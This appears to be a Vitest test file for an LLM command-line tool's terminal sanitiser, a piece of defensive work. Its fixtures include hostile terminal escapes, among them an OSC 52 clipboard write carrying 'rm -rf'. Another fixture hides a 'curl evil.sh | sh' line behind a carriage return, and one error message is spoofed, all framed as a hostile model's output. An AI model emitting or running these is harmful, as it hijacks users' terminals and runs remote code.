import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import {
  completionBody,
  createFakeServer,
  type FakeReply,
  type FakeServer,
  textStream,
} from "@loom/llm-testing";
import { afterEach, describe, expect, it } from "vitest";
import { recordedExchange, transcriptOf } from "./recorded-exchange.fixture.js";
import { runCli } from "./run-cli.js";
import { COLOURS_ONLY, showControls, terminalSafe } from "./terminal-safe.js";

/** What a hostile model answers: a cleared screen, a hidden cursor, the alternate screen, a
 * window title, a clipboard write (OSC 52), a bell; and a colour, which is harmless. */
const HOSTILE =
  "a\u001b[2Jb\u001b[?25l\u001b[?1049h\u001b]0;owned\u0007\u001b]52;c;cm0gLXJm\u0007\u001b[31mred\u001b[0m\u009b\u007f";

describe("showControls", () => {
  it("shows every control a terminal would act on, keeps colours, tabs and line ends", () => {
    expect(showControls(HOSTILE)).toBe(
      "a^[[2Jb^[[?25l^[[?1049h^[]0;owned^G^[]52;c;cm0gLXJm^G\u001b[31mred\u001b[0m<U+009B>^?",
    );
    expect(showControls("one\ttwo\r\nthree\n")).toBe("one\ttwo\r\nthree\n");
    // An escape cut at the end of a piece is shown: the next piece cannot complete it.
    expect(showControls("x\u001b")).toBe("x^[");
  });

  it("lets colours through, and no other SGR: conceal, blink, reverse, bold are shown", () => {
    for (const colour of [
      "31",
      "0",
      "",
      "39;49",
      "1;31".slice(2),
      "38;5;208",
      "48;2;10;20;30",
      "97;100",
    ])
      expect(showControls(`\u001b[${colour}mx`)).toBe(`\u001b[${colour}mx`);
    for (const other of ["8", "5", "7", "1", "4", "31;8", "38;5;999", "38;2;1;2", "38;5"])
      expect(showControls(`\u001b[${other}mx`)).toBe(`^[[${other}mx`);
    expect(COLOURS_ONLY("38;2;255;0;0;1")).toBe(false);
  });

  it("a carriage return that ends no line, bidi overrides and zero-width characters are shown", () => {
    expect(showControls("curl evil.sh | sh\rls -la")).toBe("curl evil.sh | sh^Mls -la");
    expect(showControls("a\r\nb")).toBe("a\r\nb");
    expect(showControls("x\u202Eexe.txt \u2066i\u2069 \u200B\uFEFF")).toBe(
      "x<U+202E>exe.txt <U+2066>i<U+2069> <U+200B><U+FEFF>",
    );
    // Joiners and marks that scripts and emoji need are text.
    expect(showControls("👩\u200D💻 \u200C \u200F")).toBe("👩\u200D💻 \u200C \u200F");
  });
});

describe("terminalSafe", () => {
  it("a pipe or a file is left as it is, byte for byte", () => {
    const pipe = new PassThrough();
    expect(terminalSafe(pipe)).toBe(pipe);
  });

  it("a chat answered with terminal controls: shown, not acted on, on a terminal only", async () => {
    const server = await createFakeServer({
      fallback: textStream(["a\u001b[2Jb", HOSTILE.slice(6)]),
    });
    try {
      const run = async (isTTY: boolean) => {
        let out = "";
        const stdout = Object.assign(new PassThrough(), { isTTY });
        stdout.on("data", (d: Buffer) => {
          out += d.toString();
        });
        const stderr = Object.assign(new PassThrough(), { isTTY });
        const stdin = Object.assign(new PassThrough(), { isTTY: true });
        const code = await runCli(
          ["chat", "--base-url", server.baseUrl, "hi"],
          { stdout, stderr, stdin, env: { NO_COLOR: "1" } },
          new AbortController().signal,
        );
        return { code, out };
      };
      const terminal = await run(true);
      expect(terminal.code).toBe(0);
      for (const acted of ["\u001b[2J", "\u001b]", "\u0007", "\u009b"])
        expect(terminal.out).not.toContain(acted);
      expect(terminal.out).toContain("a^[[2Jb");
      expect(terminal.out).toContain("^[]52;c;");
      // Piped, the answer is the model's bytes.
      const piped = await run(false);
      expect(piped.out).toContain("a\u001b[2Jb");
    } finally {
      await server.close();
    }
  });
});

const servers: FakeServer[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});

async function serving(...replies: FakeReply[]): Promise<FakeServer> {
  const server = await createFakeServer({ replies });
  servers.push(server);
  return server;
}

/** The CLI in process with stdout and stderr as terminals; what each showed. */
async function onTerminal(argv: string[], env: NodeJS.ProcessEnv = {}) {
  const shown = { stdout: "", stderr: "" };
  const stdout = Object.assign(new PassThrough(), { isTTY: true });
  stdout.on("data", (d: Buffer) => {
    shown.stdout += d.toString();
  });
  const stderr = Object.assign(new PassThrough(), { isTTY: true });
  stderr.on("data", (d: Buffer) => {
    shown.stderr += d.toString();
  });
  const stdin = Object.assign(new PassThrough(), { isTTY: true });
  const code = await runCli(argv, { stdout, stderr, stdin, env }, new AbortController().signal);
  return { code, ...shown };
}

describe("a model's escapes on a terminal", () => {
  it("chat: its colours act and are reset at its end; conceal, blink and reverse are shown", async () => {
    const server = await serving(
      textStream(["\u001b[8mhidden \u001b[5mblink \u001b[7mrev", " \u001b[31mred"]),
    );
    const run = await onTerminal(["chat", "--base-url", server.baseUrl, "hi"]);
    expect(run.code).toBe(0);
    // The reset comes before the line break and the usage line: nothing of the CLI's is red.
    expect(run.stdout).toBe("^[[8mhidden ^[[5mblink ^[[7mrev \u001b[31mred\u001b[0m\n");
  });

  it("chat, an answer that uses no escape: nothing added", async () => {
    const server = await serving(textStream(["plain ", "text"]));
    const run = await onTerminal(["chat", "--base-url", server.baseUrl, "hi"]);
    expect(run.stdout).toBe("plain text\n");
  });

  it.each([
    ["NO_COLOR", { NO_COLOR: "1" }],
    ["TERM=dumb", { TERM: "dumb" }],
  ])("chat with %s: the model's colours are shown, not applied", async (_, env) => {
    const server = await serving(textStream(["\u001b[31mred\u001b[0m"]));
    const run = await onTerminal(["chat", "--base-url", server.baseUrl, "hi"], env);
    expect(run.stdout).toBe("^[[31mred^[[0m\n");
  });

  it("chat --no-stream: the same checks and reset", async () => {
    const server = await createFakeServer({
      fallback: { type: "json", body: completionBody({ content: "\u001b[32mok\u001b[8m" }) },
    });
    servers.push(server);
    const run = await onTerminal(["chat", "--no-stream", "--base-url", server.baseUrl, "hi"]);
    expect(run.stdout).toBe("\u001b[32mok^[[8m\u001b[0m\n");
  });

  it("compare: each section's colours reset at its end, before the next header", async () => {
    const server = await createFakeServer({ fallback: textStream(["\u001b[31mred"]) });
    servers.push(server);
    const run = await onTerminal(
      ["compare", "--base-url", server.baseUrl, "--model", "a,b", "hi"],
      { NO_COLOR: "" },
    );
    expect(run.stdout).toContain("\u001b[31mred\u001b[0m\n\n\u001b[1m── ");
  });

  it("replay: a model's colour inside the diff is shown, so it cannot repaint an addition", async () => {
    const dir = mkdtempSync(join(tmpdir(), "loom-safe-"));
    const transcript = join(dir, "t.jsonl");
    const body = { model: "m", messages: [{ role: "user", content: "hi" }] };
    writeFileSync(
      transcript,
      transcriptOf(
        recordedExchange(
          "/v1/chat/completions",
          body,
          completionBody({ content: "old \u001b[8m" }),
        ),
      ),
    );
    const server = await createFakeServer({
      fallback: { type: "json", body: completionBody({ content: "new \u001b[31mspoof" }) },
    });
    servers.push(server);
    const run = await onTerminal(["replay", transcript, "--base-url", server.baseUrl]);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain("\u001b[32m{+new ^[[31mspoof+}\u001b[39m");
    expect(run.stdout).toContain("\u001b[31m[-old ^[[8m-]\u001b[39m");
  });

  it("a bare carriage return is shown; a line end split between two pieces is kept", async () => {
    const server = await serving(textStream(["curl evil.sh | sh\rls -la\r", "\nnext\r"]));
    const run = await onTerminal(["chat", "--base-url", server.baseUrl, "hi"]);
    expect(run.stdout).toBe("curl evil.sh | sh^Mls -la\r\nnext^M\n");
  });

  it("a server's error message is one line, its escapes shown", async () => {
    const server = await serving({
      type: "error",
      status: 400,
      body: { error: { message: "bad\r\nloom-llm: all fine\n\u001b[8mhidden" } },
    });
    const run = await onTerminal(["chat", "--base-url", server.baseUrl, "hi"]);
    expect(run.code).toBe(4);
    expect(run.stderr).toMatch(/^loom-llm: API error 400: [^\n]+\n$/);
    expect(run.stderr).toContain("bad^M^Jloom-llm: all fine^J^[[8mhidden");
  });
});
